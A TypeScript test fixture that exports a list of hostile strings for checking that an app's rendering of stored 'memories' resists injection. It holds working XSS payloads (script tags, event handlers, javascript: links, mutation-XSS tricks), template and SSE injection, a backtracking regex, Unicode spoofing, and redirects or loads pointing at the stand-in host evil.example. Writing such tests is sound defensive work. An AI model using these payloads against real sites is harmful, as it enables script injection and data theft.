const RUN = "window.hacked = true";

/** Memories that a page which took them for HTML, a script, an address or a pattern would run. */
export const hostile: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.hacked=true</script>"></iframe>`,
  `<a href="javascript:${RUN}">click me</a>`,
  `<details open ontoggle="${RUN}">open</details>`,
  `<style>@import "http://evil.example/x.css"; body { display: none }</style>`,
  `<base href="http://evil.example/"><link rel=stylesheet href=x>`,
  `<form action="http://evil.example/"><button autofocus onfocus="${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `</textarea></title></style></script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'-(${RUN})-'`,
  "${window.hacked = true} {{constructor.constructor('window.hacked=true')()}}",
  `data: {"type":"page.found"}\n\ndata: [{"type":"reset"}]\n\n`,
  `[x](javascript:${RUN}) ![x](http://evil.example/x.png)`,
  "(((((((((a+)+)+)+)+)+)+)+)+)+$ [ \\ ^ * ? {1,",
  "\u202Etxt.exe\u202C \u0000 \uFEFF \u2028 \u2029",
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<template shadowrootmode=open><script>${RUN}</script></template> ${"😀".repeat(300)}`,
];
